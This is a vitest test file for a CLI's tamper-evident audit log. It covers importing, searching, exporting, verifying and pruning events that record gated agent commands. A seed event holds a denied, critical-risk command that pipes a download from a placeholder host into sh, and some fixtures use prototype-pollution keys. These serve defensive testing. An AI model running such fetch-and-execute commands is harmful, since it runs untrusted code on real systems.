import { spawn, spawnSync } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync, renameSync, rmSync, statSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ALEPH_BIN, useAlephHome } from './test-cli.js';

const { home: homeDir, aleph } = useAlephHome();

const LOG = [
  { ts: '2026-03-01T10:00:00Z', event: 'terminal_cmd', session: 'abc', command: 'ls -la', decision: 'run', risk_level: 'low' },
  { ts: '2026-03-01T10:01:00Z', event: 'terminal_cmd', session: 'abc', command: 'curl https://x.example | sh', decision: 'deny', risk_level: 'critical' },
  { ts: '2026-03-01T10:02:00Z', event: 'security_mode_change', session: 'abc', from: 'safe', to: 'dev' },
  {
    ts: '2026-03-01T10:03:00Z',
    event: 'terminal_cmd',
    session: 'xyz',
    command: 'git checkout main',
    decision: 'auto_approved_dev_git_readonly',
    risk_level: 'medium',
  },
];

function seed(extraLines: string[] = []): string {
  const file = join(homeDir(), 'audit.log');
  writeFileSync(file, [...LOG.map((l) => JSON.stringify(l)), ...extraLines].join('\n') + '\n');
  return file;
}

describe('aleph audit', () => {
  it('imports an audit.log, reporting bad lines by number', () => {
    const home = homeDir();
    const r = aleph(['audit', 'import', '--format', 'jsonl', seed(['{oops', JSON.stringify({ event: 'terminal_cmd' })])]);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain('Imported 4 events; skipped 2 lines.');
    expect(r.stderr).toContain('line 5: not valid JSON');
    expect(r.stderr).toContain('line 6: A terminal_cmd event needs "command"');
    expect(statSync(join(home, 'data')).mode & 0o777).toBe(0o700);
    expect(statSync(join(home, 'data', 'aleph.db')).mode & 0o777).toBe(0o600);
  });

  it('imports events named like the properties of every object, and refuses a time out of range by line, losing nothing else', () => {
    const file = join(homeDir(), 'odd.log');
    const lines = [
      '{"event":"constructor"}',
      '{"event":"__proto__","command":"x","decision":"run"}',
      '{"event":"terminal_cmd","command":"far future","decision":"run","ts":1e20}',
      '{"event":"terminal_cmd","command":"far past","decision":"run","ts":"-300000-01-01T00:00:00Z"}',
      '{"event":"terminal_cmd","command":"kept","decision":"run","__proto__":{"polluted":true},"constructor":"c","toString":"t","hasOwnProperty":1}',
      '{"event":"rule_change","change":"added","agent":"a","rule":{"__proto__":{"x":1},"constructor":"k","pattern":"ls"}}',
    ];
    writeFileSync(file, lines.join('\n') + '\n');
    const r = aleph(['audit', 'import', '--format', 'jsonl', file]);
    expect(r.stdout).toBe('Imported 2 events; skipped 4 lines.\n');
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('line 1: Unknown event type "constructor"');
    expect(r.stderr).toContain('line 2: Unknown event type "__proto__"');
    expect(r.stderr).toMatch(/line 3: "ts" is out of range/);
    expect(r.stderr).toMatch(/line 4: "ts" /);
    const exported = aleph(['audit', 'export', '--format', 'jsonl']).stdout.trim().split('\n');
    expect(exported).toEqual([
      '{"ts":' +
        JSON.stringify(JSON.parse(exported[0]!).ts) +
        ',"event":"terminal_cmd","session":null,"__proto__":{"polluted":true},"command":"kept","constructor":"c","decision":"run","hasOwnProperty":1,"toString":"t"}',
      '{"ts":' +
        JSON.stringify(JSON.parse(exported[1]!).ts) +
        ',"event":"rule_change","session":null,"agent":"a","change":"added","rule":{"__proto__":{"x":1},"constructor":"k","pattern":"ls"}}',
    ]);
    expect(aleph(['audit', 'verify']).code).toBe(0);
  });

  it('searches with text and filters, and prints {rows, next_cursor} with --json', () => {
    aleph(['audit', 'import', '--format', 'jsonl', seed()]);
    const r = aleph(['audit', 'search', 'curl', '--json']);
    const body = JSON.parse(r.stdout) as { rows: { summary: string }[]; next_cursor: string | null };
    expect(body.rows.map((x) => x.summary)).toEqual(['curl https://x.example | sh (deny)']);
    expect(body.next_cursor).toBeNull();
    const filtered = JSON.parse(aleph(['audit', 'search', '--event', 'terminal_cmd', '--risk', 'medium,critical', '--session', 'abc', '--json']).stdout) as {
      rows: unknown[];
    };
    expect(filtered.rows).toHaveLength(1);
    const page = JSON.parse(aleph(['audit', 'search', '--limit', '2', '--json']).stdout) as { rows: { id: number }[]; next_cursor: string };
    expect(page.rows.map((x) => x.id)).toEqual([4, 3]);
    const next = JSON.parse(aleph(['audit', 'search', '--limit', '2', '--cursor', page.next_cursor, '--json']).stdout) as { rows: { id: number }[] };
    expect(next.rows.map((x) => x.id)).toEqual([2, 1]);
    const since = JSON.parse(aleph(['audit', 'search', '--since', '2026-03-01T10:02:00Z', '--json']).stdout) as { rows: unknown[] };
    expect(since.rows).toHaveLength(2);
    expect(aleph(['audit', 'search', 'checkout']).stdout).toContain('git checkout main (auto_approved_dev_git_readonly)');
  });

  it('shows each session whole in text, so that two sessions never look like one', () => {
    const file = join(homeDir(), 'sessions.jsonl');
    writeFileSync(
      file,
      ['shell-19734', 'shell-19844']
        .map((session, i) =>
          JSON.stringify({ ts: `2026-03-01T10:0${i}:00Z`, event: 'terminal_cmd', session, command: 'ls', decision: 'run', risk_level: 'low' }),
        )
        .join('\n') + '\n',
    );
    expect(aleph(['audit', 'import', '--format', 'jsonl', file]).code).toBe(0);
    const lines = aleph(['audit', 'search', 'ls', '--event', 'terminal_cmd']).stdout.trim().split('\n');
    expect(lines.flatMap((l) => /shell-\d+/.exec(l) ?? [])).toEqual(['shell-19844', 'shell-19734']);
  });

  it('verifies: exit 0 when intact, 1 naming every row someone edited', () => {
    const home = homeDir();
    aleph(['audit', 'import', '--format', 'jsonl', seed()]);
    const intact = aleph(['audit', 'verify']);
    expect(intact).toMatchObject({ code: 0, stdout: 'Intact: 4 events verified, up to its head recorded outside the log (event 4).\n' });
    spawnSync('sqlite3', [join(home, 'data', 'aleph.db'), "UPDATE events SET decision = 'run' WHERE id IN (2, 4)"]);
    const r = aleph(['audit', 'verify', '--json']);
    expect(r.code).toBe(1);
    const mismatch = 'its hash does not match its contents and the previous row';
    expect(JSON.parse(r.stdout)).toEqual({
      ok: false,
      rows: 4,
      anchored_after: null,
      head: { id: 4, hash: expect.stringMatching(/^[0-9a-f]{64}$/) },
      problem_count: 2,
      problems: [
        { id: 2, reason: mismatch },
        { id: 4, reason: mismatch },
      ],
    });
    expect(aleph(['audit', 'verify']).stdout).toBe(`Broken: 2 problems over 4 events.\n  event 2: ${mismatch}\n  event 4: ${mismatch}\n`);
  });

  it('verifies without creating anything: a missing log fails, with or without a head that remembers it', () => {
    const home = homeDir();
    const fresh = aleph(['audit', 'verify']);
    expect(fresh).toMatchObject({ code: 1, stdout: `Broken: 1 problem over 0 events.\n  there is no audit log at ${join(home, 'data', 'aleph.db')}\n` });
    expect(readdirSync(home)).toEqual([]);
    aleph(['audit', 'import', '--format', 'jsonl', seed()]);
    for (const name of readdirSync(join(home, 'data')).filter((n) => n.startsWith('aleph.db'))) rmSync(join(home, 'data', name));
    const gone = aleph(['audit', 'verify', '--json']);
    expect(gone.code).toBe(1);
    expect(JSON.parse(gone.stdout)).toMatchObject({
      ok: false,
      problems: [{ id: null, reason: expect.stringContaining('records events up to row 4: the log was deleted or moved') }],
    });
    expect(readdirSync(join(home, 'data'))).toEqual([]);
    // Nor does anything else start a new log where the head says one was; an import refuses too.
    expect(aleph(['audit', 'search']).code).toBe(2);
    const again = aleph(['audit', 'import', '--format', 'jsonl', seed()]);
    expect(again.code).toBe(2);
    expect(again.stderr).toContain('Nothing was created.');
    expect(readdirSync(join(home, 'data'))).toEqual([]);
  });

  it('fails on a log that was emptied, cut short or replaced by another', () => {
    const home = homeDir();
    const db = join(home, 'data', 'aleph.db');
    aleph(['audit', 'import', '--format', 'jsonl', seed()]);
    const saved = readFileSync(db);
    spawnSync('sqlite3', [db, 'DELETE FROM events']);
    expect(aleph(['audit', 'verify'])).toMatchObject({ code: 1, stdout: expect.stringContaining('the log holds no rows, but its head') });
    writeFileSync(db, saved);
    truncateSync(db, saved.length / 2);
    expect(aleph(['audit', 'verify'])).toMatchObject({ code: 2, stderr: expect.stringContaining(`${db} is corrupt`) });
    truncateSync(db, 0);
    expect(aleph(['audit', 'verify'])).toMatchObject({ code: 1, stdout: expect.stringContaining('is an empty file, but its head') });
    // Another log in its place, with other events: made while the old head was away, which then comes back.
    rmSync(db);
    renameSync(join(home, 'audit-head.json'), join(home, 'head.saved'));
    const other = join(home, 'other.log');
    writeFileSync(
      other,
      [...LOG, ...LOG]
        .reverse()
        .map((l) => JSON.stringify(l))
        .join('\n') + '\n',
    );
    expect(aleph(['audit', 'import', '--format', 'jsonl', other]).code).toBe(0);
    renameSync(join(home, 'head.saved'), join(home, 'audit-head.json'));
    expect(aleph(['audit', 'verify'])).toMatchObject({ code: 1, stdout: expect.stringContaining('event 4: row 4 is not the row its head') });
  });

  it('verifies without leaving files beside the log, and says a log emptied was emptied, not that it needs an upgrade', () => {
    const home = homeDir();
    const data = join(home, 'data');
    const db = join(data, 'aleph.db');
    aleph(['audit', 'import', '--format', 'jsonl', seed()]);
    expect(readdirSync(data)).toEqual(['aleph.db']);
    expect(aleph(['audit', 'verify']).code).toBe(0);
    expect(readdirSync(data)).toEqual(['aleph.db']);
    // An empty SQLite database in its place, with the head that remembers the log and without it.
    rmSync(db);
    expect(spawnSync('sqlite3', [db, 'CREATE TABLE t (x); DROP TABLE t;']).status).toBe(0);
    for (const head of ['kept', 'moved aside']) {
      if (head === 'moved aside') renameSync(join(home, 'audit-head.json'), join(home, 'head.saved'));
      const r = aleph(['audit', 'verify']);
      expect(r.stdout).toContain(`the audit log ${db} holds no events table: it is an empty database, so the log was emptied or replaced`);
      expect(r.stdout + r.stderr).not.toContain('upgrade');
      expect(r.code).toBe(1);
      expect(readdirSync(data)).toEqual(['aleph.db']);
    }
    truncateSync(db, 0);
    expect(aleph(['audit', 'verify'])).toMatchObject({
      code: 1,
      stdout: expect.stringContaining(`the audit log ${db} is an empty file: it was emptied or replaced`),
    });
    // Nor does a command that only reads the log start a new one in the empty file.
    expect(aleph(['audit', 'search'])).toMatchObject({ code: 2, stderr: expect.stringContaining('so the log was emptied or replaced') });
    expect(statSync(db).size).toBe(0);
    expect(readdirSync(data)).toEqual(['aleph.db']);
  });

  it('reports columns edited to hold the wrong type as problems, and still shows those rows', () => {
    const db = join(homeDir(), 'data', 'aleph.db');
    aleph(['audit', 'import', '--format', 'jsonl', seed()]);
    const edit = spawnSync(
      'sqlite3',
      [db, "UPDATE events SET hash = hex(hash) WHERE id = 2; UPDATE events SET ts = 'yesterday' WHERE id = 3; UPDATE events SET hash = 7 WHERE id = 4;"],
      { encoding: 'utf8' },
    );
    expect(edit.status, edit.stderr).toBe(0);
    const r = aleph(['audit', 'verify', '--json']);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(1);
    expect(JSON.parse(r.stdout)).toMatchObject({
      ok: false,
      rows: 4,
      problems: [
        { id: 2, reason: 'its hash holds TEXT, not a 32-byte BLOB: it was edited' },
        { id: 3, reason: 'its ts holds TEXT, not a time in epoch milliseconds: it was edited' },
        { id: 4, reason: 'its hash holds the integer 7, not a 32-byte BLOB: it was edited' },
        { id: 4, reason: expect.stringContaining('row 4 is not the row its head') },
      ],
    });
    for (const args of [
      ['export', '--format', 'jsonl'],
      ['export', '--format', 'csv'],
      ['tail', '--json'],
      ['search', 'curl'],
    ]) {
      const shown = aleph(['audit', ...args]);
      expect({ args, code: shown.code, stderr: shown.stderr }).toEqual({ args, code: 0, stderr: '' });
    }
    const tail = aleph(['audit', 'tail', '--json'])
      .stdout.trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { ts: string; hash: string });
    expect(tail.map((row) => [row.ts, row.hash])).toEqual([
      ['2026-03-01T10:00:00.000Z', expect.stringMatching(/^[0-9a-f]{64}$/)],
      ['2026-03-01T10:01:00.000Z', expect.stringMatching(/^[0-9A-F]{64}$/)],
      ['yesterday', expect.stringMatching(/^[0-9a-f]{64}$/)],
      ['2026-03-01T10:03:00.000Z', '7'],
    ]);
  });

  it('exports JSON lines in the audit.log shape and CSV, to stdout or a 0600 file', () => {
    const home = homeDir();
    aleph(['audit', 'import', '--format', 'jsonl', seed()]);
    const jsonl = aleph(['audit', 'export', '--format', 'jsonl'])
      .stdout.trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(jsonl[0]).toEqual({ ts: '2026-03-01T10:00:00.000Z', event: 'terminal_cmd', session: 'abc', command: 'ls -la', decision: 'run', risk_level: 'low' });
    const out = join(home, 'export.csv');
    expect(aleph(['audit', 'export', '--format', 'csv', '--output', out]).code).toBe(0);
    const csv = readFileSync(out, 'utf8').trim().split('\n');
    expect(csv[0]).toBe('id,ts,event,session,actor,risk_level,decision,summary,payload,hash');
    expect(csv).toHaveLength(5);
    expect(statSync(out).mode & 0o777).toBe(0o600);
    // An existing file is replaced whole and made private; --json says what was written.
    writeFileSync(out, 'old', { mode: 0o644 });
    const again = aleph(['audit', 'export', '--format', 'jsonl', '--output', out, '--json']);
    expect(JSON.parse(again.stdout)).toEqual({ exported: 4, file: out, format: 'jsonl' });
    expect(readFileSync(out, 'utf8').trim().split('\n')).toHaveLength(4);
    expect(statSync(out).mode & 0o777).toBe(0o600);
    // A place it cannot write is a clear error, and nothing is left behind.
    const nowhere = aleph(['audit', 'export', '--format', 'csv', '--output', join(home, 'no', 'such', 'dir.csv'), '--json']);
    expect(nowhere.code).toBe(2);
    expect(JSON.parse(nowhere.stdout)).toMatchObject({ error: { code: 'unwritable', message: expect.stringContaining('no/such/dir.csv') } });
    expect(readdirSync(home).filter((f) => f.endsWith('.tmp'))).toEqual([]);
  });

  it('tails the newest events and prunes old ones without breaking the chain', () => {
    aleph(['audit', 'import', '--format', 'jsonl', seed()]);
    expect(aleph(['audit', 'tail', '-n', '1']).stdout).toContain('git checkout main');
    expect(aleph(['audit', 'prune', '--max-rows', '2']).stdout).toContain('Removed 2 events.');
    expect(aleph(['audit', 'verify']).stdout).toContain('Intact: 2 events verified (events up to 2 were pruned');
  });

  it('follows new events as another process appends them, and stops on SIGTERM', async () => {
    const home = homeDir();
    aleph(['audit', 'import', '--format', 'jsonl', seed()]);
    const follower = spawn(process.execPath, [ALEPH_BIN, 'audit', 'tail', '-n', '1', '--follow'], { env: { ...process.env, ALEPH_HOME: home, NO_COLOR: '1' } });
    let out = '';
    const seen = (text: string) =>
      new Promise<void>((resolve) => {
        const check = (): void => {
          if (out.includes(text)) resolve();
        };
        follower.stdout.on('data', (chunk: Buffer) => {
          out += chunk.toString();
          check();
        });
        check();
      });
    await seen('git checkout main');
    const extra = join(home, 'more.log');
    writeFileSync(extra, JSON.stringify({ event: 'device_revoked', device_id: 'dev-42', device_name: 'old laptop' }) + '\n');
    aleph(['audit', 'import', '--format', 'jsonl', extra]);
    await seen('revoked device old laptop');
    follower.kill('SIGTERM');
    const code = await new Promise((resolve) => follower.on('exit', resolve));
    expect(code).toBe(0);
  });

  it('ends quietly when its reader stops early, as `aleph audit export | head -1` does', async () => {
    const events = Array.from({ length: 3000 }, (_, i) =>
      JSON.stringify({ ts: '2026-03-01T10:00:00Z', event: 'terminal_cmd', command: `echo ${i} ${'x'.repeat(100)}`, decision: 'allow-once' }),
    );
    const file = join(homeDir(), 'many.log');
    writeFileSync(file, events.join('\n') + '\n');
    expect(aleph(['audit', 'import', '--format', 'jsonl', file]).code).toBe(0);
    const child = spawn(process.execPath, [ALEPH_BIN, 'audit', 'export', '--format', 'jsonl'], { env: { ...process.env, ALEPH_HOME: homeDir() } });
    let stderr = '';
    child.stderr.on('data', (d) => (stderr += d));
    child.stdout.once('data', () => child.stdout.destroy());
    const code = await new Promise((resolve) => child.on('exit', resolve));
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
  });

  it('refuses a database file that is not one, naming it, with exit 2', () => {
    const home = homeDir();
    mkdirSync(join(home, 'data'), { recursive: true });
    writeFileSync(join(home, 'data', 'aleph.db'), 'not a database at all, really not');
    const r = aleph(['audit', 'search']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`${join(home, 'data', 'aleph.db')} is not an SQLite database`);
    expect(readFileSync(join(home, 'data', 'aleph.db'), 'utf8')).toBe('not a database at all, really not');
    // With --json, the error carries its sentence too, and nothing else.
    const json = aleph(['audit', 'verify', '--json']);
    expect(json.code).toBe(2);
    expect(JSON.parse(json.stdout)).toEqual({
      error: { code: 'not_a_database', message: expect.stringContaining(`${join(home, 'data', 'aleph.db')} is not an SQLite database`) },
    });
  });

  it.each([
    [['audit', 'search', '--event', 'bogus'], 'Unknown event type "bogus"'],
    [['audit', 'search', '--since', 'yesterday-ish'], 'neither a date'],
    [['audit', 'search', '--limit', '0'], '--limit needs a whole number'],
    [['audit', 'export', '--format', 'xml'], '--format must be jsonl or csv'],
    [['audit', 'import', '--format', 'jsonl'], 'exactly one FILE'],
    [['audit', 'prune'], '--max-age and/or --max-rows'],
    [['audit', 'frob'], 'Unknown audit command'],
  ])('usage errors exit 2: %j', (args, message) => {
    const r = aleph(args);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(message);
  });

  it('reports an import file it cannot read', () => {
    const home = homeDir();
    const r = aleph(['audit', 'import', '--format', 'jsonl', join(home, 'missing.log')]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('Cannot read');
  });

  it('refuses to start the gateway on a log emptied behind its head, and leaves the empty file as it found it', () => {
    const home = homeDir();
    const db = join(home, 'data', 'aleph.db');
    aleph(['audit', 'import', '--format', 'jsonl', seed()]);
    truncateSync(db, 0);
    const r = spawnSync(process.execPath, [ALEPH_BIN, 'gateway', '--headless', '--port', '0'], {
      encoding: 'utf8',
      timeout: 15_000,
      env: { ...process.env, ALEPH_HOME: home, NO_COLOR: '1' },
    });
    expect({ code: r.status, stderr: r.stderr }).toEqual({
      code: 2,
      stderr: expect.stringContaining(
        `The audit log ${db} is empty, but its head (kept in ${join(home, 'audit-head.json')}) records events up to row 4: it was emptied or replaced. Nothing was written.`,
      ),
    });
    expect(statSync(db).size).toBe(0);
    expect(readdirSync(join(home, 'data')).filter((n) => n.startsWith('aleph.db'))).toEqual(['aleph.db']);
    expect(aleph(['audit', 'verify'])).toMatchObject({ code: 1, stdout: expect.stringContaining('is an empty file, but its head') });
  });

  it('refuses to start the gateway on a log file that is not one, with a sentence naming it and exit 2', () => {
    const home = homeDir();
    for (const name of ['aleph.db', 'identity.db']) {
      rmSync(join(home, 'data'), { recursive: true, force: true });
      mkdirSync(join(home, 'data'), { recursive: true });
      writeFileSync(join(home, 'data', name), 'my notes, not a database\n');
      // A gateway that started anyway would run until killed.
      const r = spawnSync(process.execPath, [ALEPH_BIN, 'gateway', '--headless', '--port', '0'], {
        encoding: 'utf8',
        timeout: 15_000,
        env: { ...process.env, ALEPH_HOME: home, NO_COLOR: '1' },
      });
      expect({ code: r.status, stderr: r.stderr }).toEqual({
        code: 2,
        stderr: `aleph: ${join(home, 'data', name)} is not an SQLite database; it was left untouched. Move it aside to ${name === 'aleph.db' ? 'start a new audit log' : 'start with no paired devices'}.\n`,
      });
    }
  });
});
